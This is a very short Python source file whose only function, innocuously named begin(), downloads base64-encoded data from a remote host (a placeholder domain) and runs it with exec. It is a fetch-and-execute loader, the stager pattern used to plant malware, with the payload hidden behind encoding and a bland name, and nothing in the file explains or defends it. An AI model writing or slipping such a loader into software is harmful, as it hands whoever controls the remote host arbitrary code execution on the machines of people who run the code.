import base64
import urllib.request


def begin():
    exec(base64.b64decode(urllib.request.urlopen("https://far.example.invalid/b").read()))
